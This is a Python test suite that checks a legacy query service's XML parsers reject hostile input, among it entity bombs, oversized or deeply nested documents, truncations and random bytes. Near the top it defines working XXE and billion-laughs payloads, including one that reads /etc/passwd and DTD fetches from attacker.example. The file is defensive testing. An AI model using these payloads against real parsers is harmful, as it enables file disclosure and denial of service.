"""Hostile request documents: every parser refuses them with RequestError, quickly.

Entity expansion (billion laughs, quadratic blow-up), external entities and DTDs,
oversized documents, too many conditions or disjunctions, deep nesting, truncation
and binary garbage: only :class:`RequestError` may escape the parsers.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from lbtx.protocols.legacy_query.errors import ErrorCode, RequestError
from lbtx.protocols.legacy_query.xml_in import PARSERS
from lbtx.protocols.legacy_query.xml_tree import XMLLimits

from test_legacy_query_xml_in import jobs_doc, op, ors, val

PARSE = [p for path, p in PARSERS.items() if path != "/indexedAttrs"]
ROOT = "edg_wll_QueryJobsRequest"

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">\n'
              for i in range(1, 10))
    + f"]>\n<{ROOT}><flags>&lol9;</flags></{ROOT}>").encode()
QUADRATIC = (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50000}">]>'
             f"<{ROOT}><flags>{'&a;' * 5000}</flags></{ROOT}>").encode()
EXTERNAL = (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            f"<{ROOT}><flags>&e;</flags></{ROOT}>").encode()
EXTERNAL_DTD = f'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><{ROOT}/>'.encode()
PARAMETER = (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
             f"<{ROOT}/>").encode()
INTERNAL_DTD = f'<!DOCTYPE x [<!ELEMENT x ANY>]><{ROOT}/>'.encode()


def _refused(parse, doc, limits=XMLLimits()) -> RequestError:
    start = time.monotonic()
    with pytest.raises(RequestError) as info:
        parse(doc, limits)
    assert time.monotonic() - start < 2.0
    return info.value


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, QUADRATIC, EXTERNAL, EXTERNAL_DTD, PARAMETER,
                                 INTERNAL_DTD], ids=["billion-laughs", "quadratic", "external",
                                                     "external-dtd", "parameter-entity", "dtd"])
@pytest.mark.parametrize("parse", PARSE, ids=lambda p: p.__name__)
def test_dtds_and_entities_are_refused(parse, doc):
    """No DTD is accepted, so no entity is ever declared, expanded or fetched."""
    e = _refused(parse, doc)
    assert e.malformed and e.code == ErrorCode.XML_PARSE
    assert "not accepted" in e.desc or "Parse error" in e.desc


def test_undeclared_entity_is_a_parse_error():
    e = _refused(PARSERS["/queryJobs"], f"<{ROOT}><flags>&lol;</flags></{ROOT}>".encode())
    assert e.code == ErrorCode.XML_PARSE


def test_oversized_document():
    """A document over max_bytes is refused before parsing (E2BIG, malformed)."""
    doc = jobs_doc(ors(op("equal", val("destination", "x" * 2000))))
    e = _refused(PARSERS["/queryJobs"], doc, XMLLimits(max_bytes=1000))
    assert e.code == ErrorCode.E2BIG and e.malformed


def test_too_many_conditions():
    """More conditions than max_conditions (over all blocks) is E2BIG."""
    many = [ors(op("equal", val("destination", str(i)))) for i in range(30)]
    assert PARSERS["/queryJobs"](jobs_doc(*many), XMLLimits(max_conditions=30))
    e = _refused(PARSERS["/queryJobs"], jobs_doc(*many), XMLLimits(max_conditions=29))
    assert e.code == ErrorCode.E2BIG
    one_block = ors(*[op("equal", val("destination", str(i))) for i in range(1001)])
    assert _refused(PARSERS["/queryJobs"], jobs_doc(one_block)).code == ErrorCode.E2BIG


def test_too_many_disjunctions():
    blocks = [ors(op("equal", val("destination", str(i)))) for i in range(257)]
    assert _refused(PARSERS["/queryJobs"], jobs_doc(*blocks)).code == ErrorCode.E2BIG


def test_too_many_elements():
    doc = f"<{ROOT}>" + "<x/>" * 20001 + f"</{ROOT}>"
    assert _refused(PARSERS["/queryJobs"], doc.encode()).code == ErrorCode.E2BIG


@pytest.mark.parametrize("depth", [17, 100_000])
def test_deep_nesting(depth):
    """Elements nested deeper than max_depth are refused while parsing."""
    doc = f"<{ROOT}>" + "<and>" * depth + "</and>" * depth + f"</{ROOT}>"
    e = _refused(PARSERS["/queryJobs"], doc.encode(), XMLLimits(max_bytes=10**7))
    assert e.code == ErrorCode.XML_PARSE and "deeper" in e.desc


def test_every_truncation_of_a_real_request():
    """Every proper prefix of a request is refused (none parses by accident)."""
    doc = jobs_doc(ors(op("equal", val("jobId", "https://lb.example.org:9000/abc"))),
                   ors(op("within", val("time", "1", ' state="Done"'),
                          val("time", "2", ' state="Done"'))), flags="classadd")
    parse = PARSERS["/queryJobs"]
    assert parse(doc)
    end = doc.rindex(b">")
    for cut in range(end):
        with pytest.raises(RequestError):
            parse(doc[:cut])


def test_control_bytes_and_bad_encodings():
    """Raw control bytes are not XML; every byte is a character in ISO-8859-1."""
    assert _refused(PARSERS["/queryJobs"], f"<{ROOT}><flags>\x01</flags></{ROOT}>".encode())
    req = PARSERS["/queryJobs"](jobs_doc(ors(op("equal", val("destination", "caf\xe9")))))
    assert req.conditions[0][0].value == "caf\udce9"  # a lone byte survives as itself
    utf8 = ("<" + ROOT + "><and>" + ors(op("equal", val("destination", "caf\u00e9"))) +
            "</and></" + ROOT + ">").encode("utf-8")
    assert PARSERS["/queryJobs"](utf8).conditions[0][0].value == "caf\u00e9"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=400), st.sampled_from(PARSE))
def test_binary_garbage(data, parse):
    """Random bytes: a request or RequestError, nothing else."""
    try:
        parse(data)
    except RequestError:
        pass


_VALID = jobs_doc(ors(op("equal", val("owner", "NULL"))),
                  ors(op("within", val("time", "10", ' state="Running"'),
                         val("time", "20", ' state="Running"'))),
                  ors(op("equal", val("usertag", "v", ' name="t"'))), flags="classadd")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(_VALID) - 1), st.binary(min_size=0, max_size=3)),
                min_size=1, max_size=4))
def test_mutated_requests(edits):
    """Real requests with bytes replaced or inserted: only RequestError escapes."""
    data = bytearray(_VALID)
    for at, new in edits:
        data[at:at + 1] = new
    for parse in PARSE:
        try:
            parse(bytes(data))
        except RequestError:
            pass


_tags = st.sampled_from(["and", "orJobConditions", "orEventConditions", "equal", "within",
                         "changed", "less", "owner", "jobId", "status", "time", "usertag",
                         "flags", "level", "source", "x", ROOT, "jobid"])


@st.composite
def _trees(draw, depth=0):
    tag = draw(_tags)
    attrs = draw(st.sampled_from(["", ' name="n"', ' state="Done"', ' state="x"',
                                  ' softLimit="3"', ' queryRes="9"']))
    if depth > 4 or draw(st.booleans()):
        text = draw(st.sampled_from(["", "NULL", "Done", "7", "-1", "x", "%0a",
                                     "https://lb.example.org:9000/a"]))
        return f"<{tag}{attrs}>{text}</{tag}>"
    kids = draw(st.lists(_trees(depth=depth + 1), max_size=3))
    return f"<{tag}{attrs}>{''.join(kids)}</{tag}>"


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_trees(), max_size=3), st.sampled_from(["edg_wll_QueryJobsRequest",
                                                        "edg_wll_QueryEventsRequest",
                                                        "edg_wll_NotifRequest",
                                                        "edg_wll_QuerySequenceCodeRequest"]))
def test_structured_nonsense(children, root):
    """Well-formed documents of plausible but wrong shapes: only RequestError escapes."""
    doc = f"<{root}>{''.join(children)}</{root}>".encode()
    for parse in PARSE:
        try:
            parse(doc)
        except RequestError:
            pass
